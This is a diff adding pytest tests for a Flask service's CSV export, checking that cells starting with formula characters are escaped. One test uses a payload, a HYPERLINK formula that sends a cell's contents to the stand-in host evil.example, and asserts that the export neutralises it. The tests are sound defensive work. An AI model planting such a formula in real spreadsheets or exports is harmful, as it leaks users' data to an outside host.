@@ -3,6 +3,8 @@ parameters, example secrets, the demo's refusal of a used store, and the console
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import time
 import uuid
@@ -13,12 +15,16 @@ from typing import Any
 import pytest
 from flask import Flask
 
+from service.api.csv_export import safe_cell
 from service.app import close_app
 from service.config import ConfigError, Settings
 from tests.conftest import IN_CI
 from tests.e2e.test_serve import free_port
 from tests.service.conftest import (
     ADMIN_EMAIL,
+    World,
+    browser,
+    ok,
     other_process,
 )
 
@@ -117,3 +123,42 @@ def test_two_processes_on_one_redis_share_the_login_budget(
 def test_the_limit_prefix_is_validated(environ: dict[str, str], message: str) -> None:
     with pytest.raises(ConfigError, match=message):
         Settings.from_env(environ=environ)
+
+
+# ------------------------------------------------------------------ 2. CSV formulas
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_could_be_a_formula_is_text(start: str) -> None:
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_other_cells_are_left_alone() -> None:
+    assert [safe_cell(v) for v in ("Funding.", "1-2", "", None, -3, 4.5)] == [
+        "Funding.",
+        "1-2",
+        "",
+        None,
+        -3,
+        4.5,
+    ]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+
+
+def test_a_withdrawal_reason_cannot_become_a_formula_in_the_csv(world: World) -> None:
+    lead = world.partner()
+    auditor = world.account(None, "auditor")
+    initiative = world.propose(lead)
+    path = f"/api/v1/initiatives/{initiative['id']}"
+    ok(lead.post(f"{path}/withdraw", {"reason": HYPERLINK}, version=initiative["version"]))
+    world.project()
+    query = {"initiative_id": initiative["id"]}
+    api = auditor.get("/api/v1/audit/entries", headers={"Accept": "text/csv"}, query_string=query)
+    assert api.status_code == 200 and api.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(api.get_data(as_text=True))))
+    [withdrawn] = [row for row in rows if row[6] == "Withdrawn"]
+    assert withdrawn[11] == "'" + HYPERLINK
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    page = browser(world, auditor).get("/console/audit.csv", query_string=query)
+    assert page.status_code == 200
+    assert page.get_data(as_text=True) == api.get_data(as_text=True)  # one writer for both
